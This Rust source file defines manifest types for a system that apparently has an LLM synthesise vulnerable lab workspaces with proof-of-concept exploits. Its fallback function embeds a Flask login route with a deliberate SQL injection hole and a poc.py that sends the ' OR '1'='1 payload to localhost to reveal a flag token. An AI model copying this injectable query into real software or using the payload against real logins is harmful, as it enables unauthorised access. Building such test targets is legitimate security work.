//! Synthesis Engine output: `Manifest` and its nested types (spec §3, §4.4).

use serde::{Deserialize, Serialize};

/// How `FileEntry::content` is encoded on the wire.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum ContentEncoding {
    Plain,
    Base64,
}

impl Default for ContentEncoding {
    fn default() -> Self {
        ContentEncoding::Plain
    }
}

/// One file destined for `workspace/<path>`.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct FileEntry {
    pub path: String,
    pub content: String,
    #[serde(default)]
    pub encoding: ContentEncoding,
}

/// `manifest.build`.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct BuildSpec {
    pub command: String,
}

/// `manifest.run`.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct RunSpec {
    pub command: String,
    pub port: u16,
}

/// `manifest.poc`.
#[derive(Debug, Clone, Serialize, Deserialize, Default)]
pub struct PocSpec {
    #[serde(default)]
    pub cmd: Option<String>,
    #[serde(default)]
    pub success_signature: Option<String>,
    #[serde(default)]
    pub flag_token: Option<String>,
    #[serde(default)]
    pub notes: Option<String>,
}

/// LLM-synthesised candidate workspace manifest.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Manifest {
    pub intent: String,
    #[serde(default)]
    pub pattern_tags: Vec<String>,
    pub files: Vec<FileEntry>,
    #[serde(default)]
    pub deps: Vec<String>,
    pub build: BuildSpec,
    pub run: RunSpec,
    #[serde(default)]
    pub poc: PocSpec,
    #[serde(default)]
    pub notes: Option<String>,
    #[serde(default)]
    pub metadata: serde_json::Map<String, serde_json::Value>,
}

impl Manifest {
    /// Looks up a file entry by its workspace-relative path.
    pub fn find_file(&self, path: &str) -> Option<&FileEntry> {
        self.files.iter().find(|f| f.path == path)
    }

    /// True when a `poc.py` entry exists among `files`.
    pub fn has_poc_file(&self) -> bool {
        self.find_file("poc.py").is_some()
    }
}

/// Deterministic minimal SQLi manifest used when LLM output cannot be parsed
/// at all (spec §4.4 step 1, the "baked-in minimal SQLi template" fallback).
pub fn deterministic_fallback_manifest(success_signature: &str, flag_token: &str) -> Manifest {
    let app_py = format!(
        "from flask import Flask, request\nimport sqlite3\n\napp = Flask(__name__)\n\n\
         @app.route(\"/login\")\n\
         def login():\n    \
         user = request.args.get(\"user\", \"\")\n    \
         conn = sqlite3.connect(\":memory:\")\n    \
         cur = conn.cursor()\n    \
         cur.execute(\"CREATE TABLE users (name TEXT)\")\n    \
         cur.execute(\"INSERT INTO users VALUES ('admin')\")\n    \
         query = \"SELECT * FROM users WHERE name = '\" + user + \"'\"\n    \
         rows = cur.execute(query).fetchall()\n    \
         if rows:\n        \
         return \"{success_signature} {flag_token}\"\n    \
         return \"no match\", 404\n\n\n\
         if __name__ == \"__main__\":\n    \
         app.run(host=\"0.0.0.0\", port=8080)\n"
    );

    let poc_py = format!(
        "import sys\nimport requests\n\n\
         payload = sys.argv[2] if len(sys.argv) > 2 and sys.argv[1] == \"--payload\" else \"' OR '1'='1\"\n\
         resp = requests.get(\"http://localhost:8080/login\", params={{\"user\": payload}}, timeout=5)\n\
         print(resp.text)\n"
    );

    let requirements_txt = "flask\nrequests\n".to_string();
    let dockerfile = "FROM python:3.11-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install -r requirements.txt\nCOPY . .\nEXPOSE 8080\nCMD [\"python\", \"app.py\"]\n".to_string();

    Manifest {
        intent: "deterministic SQLi fallback".to_string(),
        pattern_tags: vec!["sqli-fallback".to_string()],
        files: vec![
            FileEntry {
                path: "app.py".to_string(),
                content: app_py,
                encoding: ContentEncoding::Plain,
            },
            FileEntry {
                path: "poc.py".to_string(),
                content: poc_py,
                encoding: ContentEncoding::Plain,
            },
            FileEntry {
                path: "requirements.txt".to_string(),
                content: requirements_txt,
                encoding: ContentEncoding::Plain,
            },
            FileEntry {
                path: "Dockerfile".to_string(),
                content: dockerfile,
                encoding: ContentEncoding::Plain,
            },
        ],
        deps: vec!["flask".to_string(), "requests".to_string()],
        build: BuildSpec {
            command: "pip install -r requirements.txt".to_string(),
        },
        run: RunSpec {
            command: "python app.py".to_string(),
            port: 8080,
        },
        poc: PocSpec {
            cmd: Some("python poc.py".to_string()),
            success_signature: Some(success_signature.to_string()),
            flag_token: Some(flag_token.to_string()),
            notes: Some("deterministic fallback, not LLM-generated".to_string()),
        },
        notes: Some("substituted because the candidate response could not be parsed".to_string()),
        metadata: serde_json::Map::new(),
    }
}
